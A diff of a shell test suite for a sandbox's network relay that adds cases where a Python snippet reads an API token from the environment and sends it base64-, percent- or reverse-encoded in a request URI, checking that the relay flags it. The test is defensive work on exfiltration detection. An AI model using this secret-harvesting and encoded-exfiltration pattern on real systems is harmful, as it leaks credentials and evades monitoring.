@@ -7,7 +7,7 @@
 # URI do not get around the list. A session switches its network between stages. Many sandboxes
 # later, the daemon holds no more descriptors or threads than before.
 source "$(dirname "$0")/api.sh"
-plan 37
+plan 40
 
 # two servers on the host's loopback, each on a port the kernel picks
 cat >"$TMPD/srv.py" <<'PY'
@@ -141,10 +141,12 @@ is "$(jb .run.stdout)" "111" "a direct connection to the mirror's port: refused 
 
 # a honey token sent out through the relay to an allowed host: the environment was harvested
 # (env_probe), in a plain request's URI and in a tunnel's bytes; the same fetch without it passes
-HONEY='import os, socket, sys, urllib.request
+HONEY='import base64, os, socket, sys, urllib.request
 m, tok = int(sys.argv[1]), os.environ["API_TOKEN"]
+enc = {"1": lambda t: t, "0": lambda t: "none", "b64": lambda t: base64.urlsafe_b64encode(("key=" + t).encode()).decode(),
+       "pct": lambda t: "".join("%%%02X" % ord(c) for c in t), "rev": lambda t: t[::-1]}
 if sys.argv[2] == "http":
-    print(urllib.request.urlopen("http://127.0.0.1:%d/?k=%s" % (m, tok if sys.argv[3] == "1" else "none"), timeout=20).read().decode())
+    print(urllib.request.urlopen("http://127.0.0.1:%d/?k=%s" % (m, enc[sys.argv[3]](tok)), timeout=20).read().decode())
 else:
     s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
     s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % m)
@@ -160,6 +162,13 @@ is "$(jb '[.run.stdout, .verdict.process.status, (.verdict.process.failed | join
 hrun tunnel 1
 is "$(jb '[.verdict.process.status, ([.audit.events[] | select(.kind == "env_probe") | .op] | join(","))] | join(" ")')" \
   "fail tunnel" "a honey token in a tunnel's bytes, sent in two pieces: env_probe"
+# encoded on the way out (only the token's mark, "pdk-honey-", is known to the relay)
+for e in b64 pct rev; do
+  hrun http $e
+  is "$(jb '[.run.stdout, .verdict.process.status, ([.audit.events[] | select(.kind == "env_probe") | .op] | join(","))] | join(" ")')" \
+    "mirror-ok
+ fail http" "a honey token sent $e-encoded in an allowed request's URI: env_probe"
+done
 hrun http 0
 is "$(jb '[.run.stdout, .verdict.process.status] | join(" ")')" "mirror-ok
  pass" "the same fetch without the token: pass"
